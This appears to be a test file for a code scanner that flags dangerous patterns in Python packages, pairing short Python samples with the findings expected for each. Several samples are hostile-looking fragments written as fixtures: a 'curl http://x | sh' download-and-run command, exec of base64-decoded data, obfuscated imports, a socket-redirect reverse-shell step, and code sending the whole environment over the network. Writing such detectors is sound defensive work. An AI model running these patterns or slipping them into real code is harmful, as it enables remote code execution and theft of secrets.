import { test } from 'uvu';
import { CODE_RULES } from '#check/rules/code.js';
import { pythonFiles } from '../sample-archives.js';
import { at, python } from './python-handler.js';
import { tellRules } from './tell-rules.js';

const HIDDEN = 'MAR331 service.py runs code that is hidden in data';

await tellRules(CODE_RULES, [
  [
    'a handler that reads its model',
    python('import json\nimport re\n\nmodel = json.loads("{}")\nPATTERN = re.compile("x")'),
    [],
  ],
  ['methods that share a name with what runs code', python('model.eval()\nframe.eval("a + b")\n"x".system'), []],
  [
    'programs in a function',
    python('import subprocess\n\ndef load():\n    subprocess.run("x", shell=True)'),
    [
      `MAR332 service.py uses a shell: subprocess.run with shell=True${at('4:5')}`,
      `MAR332 service.py uses a program: subprocess.run${at('4:5')}`,
    ],
  ],
  [
    'decoded code, in one step and in two',
    python(
      'import base64, zlib\n\ndef f():\n    exec(base64.b64decode("x"))\n\ndef g():\n    code = zlib.decompress(b"x")\n    eval(code)',
    ),
    [
      `${HIDDEN}: exec${at('4:5')}`,
      `${HIDDEN}: eval${at('8:5')}`,
      `MAR330 service.py uses code from text: exec (line 4), uses code from text: eval (line 8)${at('4:5')}`,
    ],
  ],
  [
    'hidden names',
    python(
      'import os\n\ndef f():\n    __import__("o" + "s")\n    getattr(os, "sys" + "tem")("x")\n    getattr(os, "system")\n    getattr(os, "sep")',
    ),
    [
      `MAR331 service.py imports a module whose name is hidden${at('4:15')}`,
      `MAR331 service.py takes a function of os whose name is hidden${at('5:12')}`,
      `MAR332 service.py uses a shell: os.system${at('5:5')}`,
      `MAR330 service.py uses code from text: __import__ (line 4)${at('4:5')}`,
    ],
  ],
  [
    'a hidden module in a path',
    python('__import__("o" + "s").system("x")'),
    [
      `MAR331 service.py imports a module whose name is hidden${at('1:11')}`,
      `MAR331 service.py runs os.system while it is imported${at('1:1')}`,
      `MAR330 service.py uses code from text while it is imported: __import__ (line 1)${at('1:1')}`,
    ],
  ],
  [
    'a module by a call',
    python('__import__("os")'),
    [
      `MAR331 service.py imports os by a call, while it is imported itself${at('1:11')}`,
      `MAR330 service.py uses code from text while it is imported: __import__ (line 1)${at('1:1')}`,
    ],
  ],
  [
    'a download that is run, and a reverse shell',
    python('COMMAND = "curl http://x | sh"\nimport socket, os\n\ndef f(s):\n    os.dup2(s.fileno(), 0)'),
    [
      `MAR331 service.py has a command that runs what it downloads, or that opens a shell to the network${at('1:11')}`,
      `MAR331 service.py connects its input and output to a socket, as a reverse shell does${at('1:1')}`,
    ],
  ],
  [
    'what is only for a reviewer',
    python(
      'import ctypes, os, requests, pickle\n\ndef f():\n    ctypes.CDLL("x")\n    requests.get("u")\n    pickle.load(x)\n    os.environ["A"]',
    ),
    [
      `MAR330 service.py uses native code: ctypes.CDLL (line 4), uses the network: requests.get (line 5), uses pickles: pickle.load (line 6), uses the environment: os.environ (line 7)${at('4:5')}`,
    ],
  ],
  [
    'source that cannot be parsed, and brackets in a comment, which Python does not mind',
    pythonFiles({ 'lib/other.py': `os.system(${'('.repeat(3000)}`, 'a.py': `#${'('.repeat(3000)}\nimport os` }),
    [
      'MAR338 a.py cannot be reviewed: brackets are nested too deeply @ a.py 1:1',
      'MAR338 lib/other.py cannot be reviewed: brackets are nested too deeply @ lib/other.py 1:1',
    ],
  ],
  [
    'source too large to be reviewed',
    pythonFiles({ 'a.py': '#'.repeat(1024 * 1024 + 1), 'b.js': ' '.repeat(8 * 1024 * 1024 + 1) }),
    ['MAR338 a.py is too large to be reviewed @ a.py', 'MAR338 b.js is too large to be reviewed @ b.js'],
  ],
  [
    'the environment over the network',
    python(
      'import os, json, urllib.request\ndef f():\n    urllib.request.urlopen("http://x", json.dumps(dict(os.environ)))',
    ),
    [
      `MAR330 service.py uses the network: urllib.request.urlopen (line 3), uses the environment: os.environ (line 3)${at('3:5')}`,
      `MAR331 service.py sends the whole environment over the network${at('1:1')}`,
    ],
  ],
]);

test.run();
